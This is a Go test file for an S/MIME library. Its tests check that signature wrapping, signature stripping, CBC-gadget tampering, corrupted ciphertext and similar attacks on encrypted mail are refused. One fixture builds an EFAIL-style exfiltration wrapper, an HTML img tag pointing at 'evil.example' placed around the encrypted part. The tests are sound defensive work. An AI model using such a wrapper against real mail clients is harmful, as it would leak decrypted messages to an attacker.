package smime_test

// The attacks of the research list (crypto-mail-letters, 10) that end at the mail.

import (
	"bytes"
	"crypto/rand"
	"encoding/base64"
	"strings"
	"testing"

	"schalter/internal/cms"
	"schalter/internal/cms/cmstest"
	"schalter/internal/smime"
)

const (
	authority = cmstest.AuthorityRSA
	platform  = cmstest.PlatformRSA
)

func TestAttack02EncryptedButUnsigned(t *testing.T) {
	t.Parallel()
	wantReason(t, envelopeOf(t, []byte(letter), platform, cms.Modern), options(t, authority, platform, cms.Modern), smime.NotSigned)
	wantReason(t, envelopeOf(t, []byte(letter), platform, cms.Compat), options(t, authority, platform, cms.Compat), smime.NotSigned)
}

func TestAttack03AnotherAuthoritysCertificate(t *testing.T) {
	t.Parallel()
	wantReason(t, seal(t, letter, cmstest.AuthorityEC, platform, cms.Modern), options(t, authority, platform, cms.Modern), smime.SignerUnknown)
}

func TestAttack06TextOutsideOfTheSignature(t *testing.T) {
	t.Parallel()
	signed := string(clearSigned(t, letter, authority))
	head, body, _ := strings.Cut(signed, "\r\n\r\n")
	boundary := body[:strings.Index(body, "\r\n")]
	extra := boundary + "\r\nContent-Type: text/plain\r\n\r\nZahlen Sie sofort\r\n"
	last := strings.LastIndex(body, boundary)
	mixed := "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n" + signed + "\r\n--x\r\nContent-Type: text/plain\r\n\r\nZahlen\r\n--x--\r\n"
	for name, tc := range map[string]struct {
		entity string
		want   smime.Reason
	}{
		"a part before":         {head + "\r\n\r\n" + extra + body, smime.NotWholeBody},
		"a part behind":         {head + "\r\n\r\n" + body[:last] + extra + body[last:], smime.NotWholeBody},
		"text behind":           {signed + "Zahlen Sie sofort\r\n", smime.NotWholeBody},
		"lines before":          {head + "\r\n\r\nZahlen Sie\r\nsofort\r\n" + body, smime.NotWholeBody},
		"a long line before":    {head + "\r\n\r\n" + strings.Repeat("Zahlen ", 40) + "\r\n" + body, smime.NotWholeBody},
		"the signature missing": {head + "\r\n\r\n" + body[:strings.LastIndex(body[:last-2], boundary)] + boundary + "--\r\n", smime.Malformed},
		"never closed":          {signed[:strings.LastIndex(signed, boundary)], smime.Malformed},
		"one part of a mixed":   {mixed, smime.NotSigned},
		"a changed letter":      {strings.Replace(signed, "geehrte", "gelehrte", 1), smime.SignatureInvalid},
		"a space at a line end": {strings.Replace(signed, "Herren,\r\n", "Herren, \r\n", 1), smime.SignatureInvalid},
		"a line end more":       {strings.Replace(signed, "Herren,\r\n", "Herren,\r\n\r\n", 1), smime.SignatureInvalid},
		"a boundary of others":  {strings.Replace(signed, "boundary=\"", "boundary=\"y", 1), smime.Malformed},
		"no boundary":           {strings.Replace(signed, "boundary", "bound", 1), smime.Malformed},
	} {
		for _, p := range []cms.Profile{cms.Modern, cms.Compat} {
			opened, err := smime.Open(envelopeOf(t, []byte(tc.entity), platform, p), options(t, authority, platform, p))
			if smime.ReasonOf(err) != tc.want || opened != nil {
				t.Errorf("%s: got %v, want %s", name, err, tc.want)
			}
		}
	}
}

func TestAttack07APartBesideTheEncryptedOne(t *testing.T) {
	t.Parallel()
	envelope := string(seal(t, letter, authority, platform, cms.Modern))
	_, part, _ := strings.Cut(envelope, "MIME-Version: 1.0\r\n")
	around := "From: a@b.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n" +
		"--x\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n--x\r\n" + part + "\r\n--x\r\nContent-Type: text/html\r\n\r\n\">\r\n--x--\r\n"
	wantReason(t, []byte(around), options(t, authority, platform, cms.Modern), smime.NotWholeBody)
	signedAround := append([]byte("MIME-Version: 1.0\r\n"), clearSigned(t, around, authority)...)
	wantReason(t, signedAround, options(t, authority, platform, cms.Modern), smime.NotWholeBody)
}

// bodyOf is the CMS message of a mail.
func bodyOf(t testing.TB, mail []byte) []byte {
	t.Helper()
	_, body, _ := bytes.Cut(mail, []byte("\r\n\r\n"))
	der, err := base64.StdEncoding.DecodeString(strings.ReplaceAll(string(body), "\r\n", ""))
	if err != nil {
		t.Fatal(err)
	}
	return der
}

func TestAttack08CBCGadgets(t *testing.T) {
	t.Parallel()
	for _, p := range []cms.Profile{cms.Compat, cms.Legacy} {
		entity := letter + strings.Repeat("Zeile\r\n", 20)
		der := bodyOf(t, seal(t, entity, cmstest.AuthorityEC, cmstest.PlatformEC, p))
		o := options(t, cmstest.AuthorityEC, cmstest.PlatformEC, p)
		if _, err := smime.Open(mailOf(der, "enveloped-data"), o); err != nil {
			t.Fatal(err)
		}
		refused := 0
		for i := len(der) - 1; i > 0; i -= 7 {
			changed := bytes.Clone(der)
			changed[i] ^= 4
			opened, err := smime.Open(mailOf(changed, "enveloped-data"), o)
			if smime.ReasonOf(err) != "" && opened == nil {
				refused++
			} else if err != nil || string(opened.Entity) != entity {
				t.Fatalf("byte %d: got %v, %v", i, opened, err)
			}
		}
		// A garbled block outside of what was signed, such as the name of the signature's file, may pass.
		if all := len(der) / 7; refused < all*9/10 {
			t.Errorf("%s: only %d of %d changes were refused", p, refused, all)
		}
	}
}

func TestAttack09SignatureStripped(t *testing.T) {
	t.Parallel()
	for _, p := range []cms.Profile{cms.Modern, cms.Compat} {
		wantReason(t, envelopeOf(t, []byte(letter), platform, p), options(t, authority, platform, p), smime.NotSigned)
		stripped := "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=x\r\n\r\n--x\r\n" + letter +
			"\r\n--x\r\nContent-Type: text/plain\r\n\r\nnothing\r\n--x--\r\n"
		wantReason(t, envelopeOf(t, []byte(stripped), platform, p), options(t, authority, platform, p), smime.NotSigned)
	}
}

func TestAttack12AnyChangedByteIsOneReason(t *testing.T) {
	t.Parallel()
	der := bodyOf(t, seal(t, letter, cmstest.AuthorityEC, cmstest.PlatformEC, cms.Modern))
	o := options(t, cmstest.AuthorityEC, cmstest.PlatformEC, cms.Modern)
	for i := range der {
		changed := bytes.Clone(der)
		changed[i] ^= 0xff
		opened, err := smime.Open(mailOf(changed, "authEnveloped-data"), o)
		got := smime.ReasonOf(err)
		// What names the algorithms is public, and is judged before any key is used.
		if opened != nil || got != smime.Undecryptable && got != smime.AlgorithmRefused {
			t.Fatalf("byte %d: got %v", i, err)
		}
	}
}

func TestAttack14GarbageOfABadKeyIsUndecryptable(t *testing.T) {
	t.Parallel()
	der := bodyOf(t, seal(t, letter, authority, platform, cms.Legacy))
	at := bytes.Index(der, []byte{0x04, 0x82, 0x01, 0x80}) + 4
	if at < 4 {
		t.Fatal("no encrypted key of 384 bytes")
	}
	o := options(t, authority, platform, cms.Legacy)
	for range 200 {
		if _, err := rand.Read(der[at : at+384]); err != nil {
			t.Fatal(err)
		}
		der[at] &= 0x3f
		wantReason(t, mailOf(der, "enveloped-data"), o, smime.Undecryptable)
	}
}
